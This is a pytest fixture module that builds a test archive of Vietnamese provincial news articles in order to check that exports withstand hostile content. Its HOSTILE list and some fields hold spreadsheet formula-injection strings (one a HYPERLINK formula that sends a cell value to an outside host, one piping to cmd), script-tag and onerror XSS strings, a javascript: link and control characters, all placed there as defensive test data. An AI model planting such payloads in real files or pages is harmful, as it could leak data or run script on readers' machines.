"""An archive with everything that exports have to get through unharmed, and the one call that exports it."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from archive import ArchiveWriter, Article, Attachment, Capture, HarvestRow, Image, open_archive
from archive.exports.bylines import Bylines
from archive.exports.exporting import Done, Order, Surroundings, export
from archive.exports.selection import Choice
from archive.exports.task import PortalFacts
from archive.identity import article_id
from archive.queries import Maps
from archive.queries.connection import PLACES_63, PORTALS, UNITS_34
from tests.archive.conftest import START, body_of

Send = Callable[..., Done]
AROUND = Surroundings(
    maps=Maps(places_63=PLACES_63.empty_table(), units_34=UNITS_34.empty_table(), portals=PORTALS.empty_table()),
    portals={"tinh-a": PortalFacts(name="Cổng tỉnh A | <b>", url="https://tinh-a.example.vn/")},
    code_version="test",
    random=lambda count: bytes(range(count)),
)
HOSTILE = (
    '=HYPERLINK("https://example.org/?x="&A1,"bấm vào đây")',
    "+84 24 3825",
    "-1+1|cmd",
    "@SUM(A1)",
    "'=1+1 với dấu nháy",
    "\t=1+1",
    "<script>alert('x')</script> & <b>đậm</b> ]]> <!-- -->",
    "\u202eđảo ngược\u202c \u200fphải sang trái",
    'Dấu "kép", dấu phẩy,\r\nxuống dòng\rvà\nthêm',
    "NUL \x00 ở giữa, chuông \x07, thoát \x1b[31m đỏ, ký tự \ufffe",
    "| cột | `mã` | $x$ | [liên kết](javascript:alert(1)) ![](x) {{ khuôn }} {% raw %}",
    "Dài " + "dằng dặc " * 116_000,
    "😀 ngoài mặt phẳng cơ bản, e\u0301 dựng sẵn",
)


def article(number: int, title: str | None = None, **named: Any) -> Article:
    """An article by its number."""
    portal = named.pop("portal_id", f"tinh-{'abc'[number % 3]}")
    url = f"https://{portal}.example.vn/bai-{number}"
    day = date(2018 + number % 5, 1 + number % 12, 1 + number % 28)
    facts: dict[str, Any] = {
        "article_id": article_id(portal, str(number), url),
        "portal_id": portal,
        "family": "joomla",
        "url": url,
        "title": title or f"Bài viết thứ {number} về đối ngoại",
        "body": body_of(number),
        "language": "vi",
        "published": datetime(day.year, day.month, day.day, 2, tzinfo=UTC),
        "published_date": day,
        "published_precision": "day",
        "published_raw": f"{day:%d/%m/%Y}",
        "reader": "joomla/1",
        "field_from": {"title": "selector", "body": "metadata"},
    }
    return Article(**{**facts, **named})


def capture(of: Article, day: float = 0, **named: Any) -> Capture:
    """A capture of an article; ``day`` counts from the first of January 2024."""
    page = f"{of.title}{of.body}{day}".encode("utf-8", "replace")
    facts: dict[str, Any] = {
        "url": of.url,
        "portal_id": of.portal_id,
        "outcome": "kept",
        "status": 200,
        "payload": page,
    }
    return Capture(**{**facts, "fetched_at": START + timedelta(days=day), "article": of, **named})


def gone(of: Article, day: float, run_id: str) -> Capture:
    """A capture of the page of an article that is no more."""
    return replace(capture(of, day), outcome="gone", status=404, payload=b"404", article=None, run_id=run_id)


def articles() -> list[Article]:
    """Plain articles and hostile ones, with everything that a column can hold."""
    plain = [article(number) for number in range(8)]
    named = article(
        20,
        author="Nguyễn Thị Hòa; Trần Văn Minh",
        author_role="Phó Giám đốc",
        byline_raw="Nguyễn Thị Hòa - Trần Văn Minh",
        lead="Mở đầu",
        section="Tin tức",
        agency="Sở Ngoại vụ",
        source="Báo tỉnh",
        province_code="01",
        province="Hà Nội",
        province_code_2025="01",
        countries=("LAO", "KOR"),
        date_flags=("order_assumed",),
        attachments=(
            Attachment(url="https://tinh-a.example.vn/=1.pdf", label='=cmd|"x"', media_type="application/pdf"),
        ),
        images=(Image(url="https://tinh-a.example.vn/1.jpg", caption="<img onerror=alert(1)>"),),
    )
    undated = article(21, published=None, published_date=None, published_precision=None, published_raw=None, body=None)
    hostile = [article(100 + place, title, lead=title[:50], body=title) for place, title in enumerate(HOSTILE)]
    return [*plain, named, undated, *hostile]


def fill(path: Path, batches: Iterable[Iterable[Capture]], *, compact: bool = False) -> Path:
    """Put captures into an archive, one commit for each batch."""
    with ArchiveWriter(path, code_version="test", now=lambda: START) as writer:
        for batch in batches:
            for one in batch:
                writer.add(one)
            writer.commit()
        if compact:
            writer.compact()
    return path


@pytest.fixture(scope="session")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The archive that exports are made from; nothing changes it."""
    path = tmp_path_factory.mktemp("exported") / "archive"
    made = articles()
    copy = article(1, portal_id="tinh-b", title=made[1].title)
    edited = article(2, body=body_of(2) + "\n\nBổ sung sau khi đăng.")
    with ArchiveWriter(path, code_version="test", now=lambda: START) as writer:
        for one in (
            *map(capture, made),
            capture(copy, 1),
            capture(edited, 2),
            gone(made[3], 3, "r1"),
            gone(made[3], 4, "r2"),
        ):
            writer.add(one)
        writer.record_harvest(
            HarvestRow(
                run_id="r2",
                portal_id="tinh-a",
                started=START,
                ended=START + timedelta(hours=1),
                exit_code=4,
                verdict="incomplete",
                reason="3 trang <b>hỏng</b>",
                counters={"failed: 503": 3},
            )
        )
    return path


@pytest.fixture(scope="session")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of a few short articles, one of which names its authors; nothing changes it."""
    made = [articles()[8], *(article(number) for number in range(4))]
    return fill(tmp_path_factory.mktemp("small") / "archive", [map(capture, made)])


@pytest.fixture
def send(tmp_path: Path) -> Send:
    """Export an archive to a place in the test's folder."""

    def send(archive: Path, to: str, name: str = "out", *, bylines: Bylines | None = None, **named: Any) -> Done:
        choice = {key: named.pop(key) for key in tuple(named) if key in Choice.__slots__}
        asked = Order(archive=archive, to=to, target=tmp_path / name, choice=Choice(**choice), bylines=bylines, **named)
        return export(asked, AROUND)

    return send


def rows_of(path: Path) -> list[dict[str, Any]]:
    """The rows of an archive's articles by id, as plain values."""
    table: pa.Table = open_archive(path).articles().to_table()
    return sorted(table.to_pylist(), key=lambda row: str(row["article_id"]))
